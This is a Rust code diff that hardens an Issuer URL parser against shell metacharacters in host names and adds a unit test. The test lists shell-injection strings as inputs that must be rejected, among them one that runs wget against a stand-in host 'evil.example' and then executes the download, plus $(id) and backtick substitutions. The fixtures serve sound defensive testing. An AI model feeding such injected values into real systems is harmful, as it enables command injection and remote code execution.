@@ -109,6 +109,19 @@ impl FromStr for Issuer {
                 example,
             ));
         }
+        // RFC 952 and 1123: letters, digits and hyphens. The parser lets more
+        // through, of which a shell makes something of its own; `_` is what
+        // containers are called with.
+        if let Some(Host::Domain(name)) = url.host()
+            && !name
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"-._".contains(&b))
+        {
+            return Err(Refusal::new(
+                format!("{text:?} has a host that no name server knows"),
+                example,
+            ));
+        }
         // What differs from the origin has a path, a query, a fragment, a user,
         // a needless port, or capitals in the host: all of them ways for two
         // spellings of one issuer to miss each other.
@@ -137,6 +150,20 @@ impl FromStr for Issuer {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// It is shown in a command line to whoever drops a file of receipts.
+    #[test]
+    fn an_issuer_says_nothing_to_a_shell() {
+        for text in [
+            "https://x;{wget,evil.example};{sh,index.html};",
+            "https://x&y.example",
+            "https://$(id).example",
+            "https://x'y.example",
+            "https://x`id`.example",
+        ] {
+            assert!(text.parse::<Issuer>().is_err(), "{text}");
+        }
+    }
 
     fn refusal(text: &str) -> String {
         match text.parse::<Issuer>() {
